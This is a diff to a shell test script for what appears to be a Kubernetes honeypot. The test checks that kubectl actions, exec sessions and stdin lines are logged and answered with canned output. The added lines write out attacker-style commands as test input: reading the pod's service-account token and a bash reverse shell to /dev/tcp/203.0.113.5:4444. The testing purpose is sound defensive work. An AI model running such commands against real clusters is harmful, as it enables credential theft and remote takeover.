@@ -66,8 +66,11 @@ kc get ds -n kube-system | has '^node-agent ' || fail "created daemonset not lis
 kc get deploy web2 -o jsonpath='{.spec.template.spec.containers[0].image}' | has -x 'nginx:1.25' || fail "created deployment"
 kc apply -f "$W/ds.yaml" | has 'node-agent configured' || fail "second apply"
 kc delete pod miner | has 'pod "miner" deleted' || fail "delete"
-# exec is recorded, the stream upgrade is not granted
-kc exec web-7d4b9c6f5d-x2lqp -- sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' >/dev/null 2>&1 || true
+# exec over SPDY/3.1: canned output, exit 0; with -i every stdin line is recorded and answered
+out=$(kc exec web-7d4b9c6f5d-x2lqp -- sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token') || fail "exec"
+echo "$out" | has '^eyJ' || fail "exec output: $out"
+out=$(printf 'id\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' | kc exec -i web-7d4b9c6f5d-x2lqp -- sh) || fail "exec -i"
+echo "$out" | has '^uid=0(root)' || fail "exec -i output: $out"
 hp_stop
 
 [ "$(hp_count '.eventid=="kube.discovery" and .request.path=="/apis"')" -ge 1 ] || fail "discovery not logged"
@@ -82,4 +85,6 @@ hp_stop
 [ "$(hp_count '.eventid=="kube.pod.delete" and .request.name=="miner"')" = 1 ] || fail "delete event"
 [ "$(hp_count '.eventid=="kube.exec" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.command[0]=="sh" and (.request.command[2]|test("serviceaccount/token"))')" = 1 ] \
   || fail "exec event"
+[ "$(hp_count '.eventid=="kube.stdin" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.line=="id"')" = 1 ] || fail "stdin line 1"
+[ "$(hp_count '.eventid=="kube.stdin" and (.request.line|test("/dev/tcp/203.0.113.5"))')" = 1 ] || fail "stdin line 2"
 echo "ok: kubectl $(hp_count '.service=="kube" and (.eventid|startswith("session.")|not)') steps logged"
